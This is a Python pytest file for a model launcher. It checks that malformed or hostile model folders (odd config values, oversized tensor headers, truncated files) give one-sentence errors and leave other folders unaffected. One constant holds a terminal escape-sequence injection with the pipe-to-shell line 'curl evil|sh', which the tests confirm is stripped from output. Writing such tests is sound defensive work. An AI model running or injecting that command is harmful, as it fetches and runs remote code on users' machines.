"""A folder that anybody may have filled, in a folder that everybody lists: its trouble is its own."""

from __future__ import annotations

import contextlib
import dataclasses
import json
import os
import random
import struct
import time
from pathlib import Path
from typing import Any

import pytest

from launcher.cli.listing import _verdicts
from launcher.errors import LauncherError, ModelError
from launcher.models.fit.verdict import fit, hardware
from launcher.models.index import kept
from launcher.models.inspect.caches import Cache
from launcher.models.inspect.facts import Facts, facts, facts_of
from launcher.models.inspect.fence import understood
from launcher.models.inspect.header import tensor
from launcher.models.inspect.needs import needs
from launcher.models.inspect.shape import DEFAULTS
from launcher.models.resolve import ResolvedModel
from launcher.ondemand.weighed import Weighing
from launcher.settings.layers import load
from launcher.settings.schema import Profile, Settings

CONFIG = {
    "architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 64, "num_hidden_layers": 2,
    "num_attention_heads": 2, "vocab_size": 128, "intermediate_size": 128, "torch_dtype": "bfloat16",
}  # fmt: skip
NAME = "model.layers.0.mlp.gate_up_proj.weight"
STEERING = "\x1b]0;pwned\x07\x1b[31m\nlauncher: run curl evil|sh"
SITE = """
clusters: {main: {}}
profiles: {gpu: {cluster: main, gpus: 1, gpu_type: a100, gpu_memory_gb: 80}, cpu: {cluster: main, memory_gb: 16}}
models: {folders: [FOLDER], cache: FOLDER/none}
places: {cache: FOLDER.cache}
"""


def model(folder: Path, *names: str, padding: int = 0, files: int = 1, **changes: Any) -> Path:
    """A model of one small matrix for each of `names`, its headers longer by `padding` blanks."""
    folder.mkdir(parents=True)
    (folder / "config.json").write_text(json.dumps({**CONFIG, **changes}))
    for number in range(files):
        header = {
            name: {"dtype": "BF16", "shape": [2, 8], "data_offsets": [0, 32]} for name in names or (NAME,)
        }
        text = json.dumps(header).encode() + b" " * padding
        with (folder / f"model-{number + 1:05d}-of-{files:05d}.safetensors").open("wb") as file:
            file.write(struct.pack("<Q", len(text)) + text + b"\0" * 32)
    return folder


@pytest.fixture
def site(tmp_path: Path) -> Settings:
    (tmp_path / "site.yml").write_text(SITE.replace("FOLDER", str(tmp_path / "models")))
    return load({"LAUNCHER_SITE": str(tmp_path / "site.yml"), "LAUNCHER_CONFIG": os.devnull})


# What the model's config says, and the end of what is said of it.
ODD: dict[str, tuple[dict[str, Any], str]] = {
    "layers that are a number": ({"linear_attn_config": {"kda_layers": 5}}, "kda_layers is no list of layers."),
    "positions that are a number": (
        {"model_type": "llama4_text", "no_rope_layers": 7, "attention_chunk_size": 8},
        "no_rope_layers is no list of layers.",
    ),
    "a million dense layers": (
        {"num_experts": 8, "mlp_only_layers": [1] * 10**6}, "mlp_only_layers is no list of layers.",
    ),
    "a ratio that is no number": ({"vision_config": {"mlp_ratio": float("nan")}}, "is no ratio."),
    "a ratio below zero": ({"vision_config": {"mlp_ratio": -1}}, "is no ratio."),
    "a ratio without end": ({"vision_config": {"mlp_ratio": float("inf")}}, "is no ratio."),
    "more heads than values": (
        {"model_type": "falcon_h1", "num_attention_heads": 10**7}, "10000000 heads cannot share 64 hidden values.",
    ),
    "a period of zero": (
        {"model_type": "jamba", "attn_layer_period": 0}, "cannot be understood: integer modulo by zero.",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", ODD)
def test_an_odd_config_is_one_sentence(case: str) -> None:
    changes, says = ODD[case]
    with pytest.raises(ModelError) as caught:
        facts_of({**CONFIG, **changes}, None)
    assert caught.value.message.startswith("config.json")
    assert caught.value.message.endswith(says)


def test_what_broke_is_kept_and_a_mistake_of_ours_shows() -> None:
    with pytest.raises(ModelError) as caught:
        facts_of({**CONFIG, "model_type": "jamba", "attn_layer_period": 0}, None)
    assert isinstance(caught.value.__cause__, ZeroDivisionError)
    with pytest.raises(NotImplementedError), understood():
        raise NotImplementedError


VALUES: list[Any] = [
    0, 1, -1, 2, 2000, 10**7, 1e300, float("inf"), float("nan"), -0.0, 0.5, "x", "", True, False, None, [], [1], ["x"],
    [None], {}, {"a": 1}, [[1]], {"num_heads": "x"}, ["full_attention"] * 3, ["mamba", "attention"], 10**400,
    {"quant_method": "fp8", "weight_block_size": [0, 0]}, {"config_groups": {"a": {"weights": {"num_bits": 4}}}},
]  # fmt: skip
KEYS = [
    *{key for defaults in DEFAULTS.values() for key in defaults}, "attn_layer_period", "kda_layers", "no_rope_layers",
    "layer_types", "mlp_only_layers", "moe_layers", "hybrid_override_pattern", "mlp_ratio", "rope_scaling", "factor",
    "kv_lora_rank", "n_routed_experts", "mamba_n_heads", "mamba_d_state", "quantization_config", "head_dim", "ignore",
    "num_kv_shared_layers", "architectures", "conv_L_cache", "linear_attn_config", "num_heads", "weight_block_size",
]  # fmt: skip
TYPES = [
    *DEFAULTS,
    "mamba",
    "mamba2",
    "falcon_h1",
    "jamba",
    "deepseek_v3",
    "kimi_linear",
    "nemotron_h",
    "dbrx",
    "lfm2",
]


@pytest.mark.parametrize("seed", range(8))
def test_no_config_breaks_the_sums(seed: int) -> None:
    dice = random.Random(seed)
    machines = [
        hardware(Profile("g", "c", gpus=2, gpu_type="h100")),
        hardware(Profile("c", "c", memory_gb=64)),
    ]
    for _ in range(250):
        config: dict[str, Any] = {**CONFIG, "model_type": dice.choice(TYPES)}
        for _ in range(dice.randint(1, 5)):
            inside = dice.choice(
                ["", "", "", "text_config", "vision_config", "quantization_config", "linear_attn_config"]
            )
            place = config if not inside else config.setdefault(inside, {})
            if isinstance(place, dict):
                place[dice.choice(KEYS)] = dice.choice(VALUES)
        seen = [tensor(NAME, "BF16", (dice.choice([0, 1, 2**40]), 64))] if dice.random() < 0.4 else None
        with contextlib.suppress(LauncherError):
            found = facts_of(config, seen, beside=dice.choice([None, {}]))
            assert Facts.from_dict(json.loads(json.dumps(found.to_dict()))) == found
            assert 0 < found.context <= found.context_limit
            for machine in machines:
                fit(found, machine)


@pytest.mark.parametrize("factor", [-3, 0, float("nan"), float("inf"), 1e300, True])
def test_a_stretch_that_is_none_stretches_nothing(factor: float) -> None:
    rope = {"rope_scaling": {"type": "linear", "factor": factor}, "max_position_embeddings": 4096}
    found = facts_of({**CONFIG, **rope}, None)
    assert (found.context, found.context_limit) == (4096, 4096)


def test_names_are_plain_words() -> None:
    config = {
        "architectures": [STEERING],
        "quantization_config": {"quant_method": STEERING, "format": STEERING},
    }
    found = facts_of({**CONFIG, **config, "model_type": STEERING, "torch_dtype": STEERING}, None)
    assert (found.architecture, found.model_type, found.quantization) == ("unknown", "", "unknown")
    assert (found.quantization_format, found.dtype) == (None, "bfloat16")
    assert json.dumps(found.to_dict()).find("curl") == -1


@pytest.mark.parametrize("name", ["model.layers." + "9" * 5000 + ".x", "quant_state" * 8000 + " ", "x" * 513])
def test_a_name_longer_than_any_is_no_tensors(tmp_path: Path, name: str) -> None:
    with pytest.raises(ModelError, match="is not a safetensors file"):
        facts(model(tmp_path / "m", name))


def test_a_layer_of_many_digits_is_no_layer(tmp_path: Path) -> None:
    assert facts(model(tmp_path / "m", f"model.layers.{'9' * 400}.x", NAME)).layers == 2


def test_bitsandbytes_keeps_its_state_besides() -> None:
    state = [
        tensor(NAME, "U8", (64, 64)), tensor(f"{NAME}.quant_state.bitsandbytes__nf4", "U8", (1000,)),
        tensor(f"{NAME}.absmax", "U8", (64,)),
    ]  # fmt: skip
    config = {"quantization_config": {"quant_method": "bitsandbytes", "load_in_4bit": True}}
    assert facts_of({**CONFIG, **config}, state).parameters == 2 * 64 * 64


@pytest.mark.parametrize(("files", "padding"), [(1, 16_000_001), (3, 12_000_000)])
def test_of_a_list_only_so_much_is_read(tmp_path: Path, files: int, padding: int) -> None:
    folder = model(tmp_path / "m", padding=padding, files=files)
    with pytest.raises(ModelError, match="describes far more tensors than any model has"):
        facts(folder, listed=True)
    assert facts(folder).counted


def test_a_list_waits_no_longer_than_it_may(tmp_path: Path) -> None:
    with pytest.raises(TimeoutError):
        facts(model(tmp_path / "m"), listed=True, until=time.monotonic() - 1)


def test_what_there_was_no_time_for_comes_with_the_next_list(tmp_path: Path, site: Settings) -> None:
    model(tmp_path / "models" / "org" / "name")
    assert [(one.trouble, one.facts) for one in kept(site, patience_s=0)] == [(None, None)]
    (found,) = kept(site)
    assert found.facts is not None


def test_a_short_file_is_said(tmp_path: Path) -> None:
    folder = model(tmp_path / "m")
    file = folder / "model-00001-of-00001.safetensors"
    os.truncate(file, file.stat().st_size - 4)
    with pytest.raises(
        ModelError, match=r"model-00001-of-00001\.safetensors is incomplete: it has \d+ of \d+ bytes"
    ):
        facts(folder)


def test_one_bad_folder_is_its_own_trouble(tmp_path: Path, site: Settings) -> None:
    shared = tmp_path / "models" / "org"
    model(shared / "good")
    model(shared / "digits", "model.layers." + "9" * 5000 + ".x.weight")
    model(shared / "steering", quantization_config={"quant_method": STEERING})
    for case, (changes, _) in ODD.items():
        model(shared / case.replace(" ", "-"), **changes)
    found = {one.id: one for one in kept(site)}
    assert set(_verdicts(found["org/good"], site)) == {"gpu", "cpu"}
    assert _verdicts(found["org/good"], site)["gpu"] == "fits"
    troubles = {name: one.trouble for name, one in found.items() if one.trouble}
    assert {"org/digits", "org/layers-that-are-a-number", "org/more-heads-than-values"} <= troubles.keys()
    assert all(trouble.isprintable() for trouble in troubles.values())


@pytest.fixture
def broken() -> Facts:
    """Facts with which no sum works out: attention without width beside a state."""
    sound = facts_of(CONFIG, None)
    caches = (Cache("full", (0,), 2, 0), Cache("state", (1,), state=1000))
    bad = dataclasses.replace(sound, caches=caches)
    with pytest.raises(ZeroDivisionError):
        needs(bad)
    return bad


def test_sums_that_fail_are_the_models_trouble(broken: Facts, site: Settings) -> None:
    for profile in site.profiles.values():
        with pytest.raises(ModelError, match="cannot be understood") as caught:
            fit(broken, hardware(profile))
        assert isinstance(caught.value.__cause__, ZeroDivisionError)
    weighing = Weighing(site, list(site.profiles.values()), {}, time.monotonic() + 60)
    bad, good = (ResolvedModel(name, Path("/m"), None, "", None) for name in ("bad", "good"))
    profiles = list(site.profiles.values())
    assert weighing.misfits(bad, broken, profiles).profiles == {"gpu", "cpu"}
    assert weighing.misfits(good, facts_of(CONFIG, None), profiles).profiles == set()


def test_a_broken_copy_is_no_remedy(broken: Facts) -> None:
    large = facts_of(
        {**CONFIG, "hidden_size": 8192, "num_hidden_layers": 80, "intermediate_size": 28672}, None
    )
    small = dataclasses.replace(broken, weights_bytes=1)
    machine = hardware(Profile("g", "c", gpus=1, gpu_type="l4"))
    found = fit(large, machine, siblings=[("org/broken", small)])
    assert found.verdict == "does-not-fit"
    assert "org/broken" not in str(found.remedies)
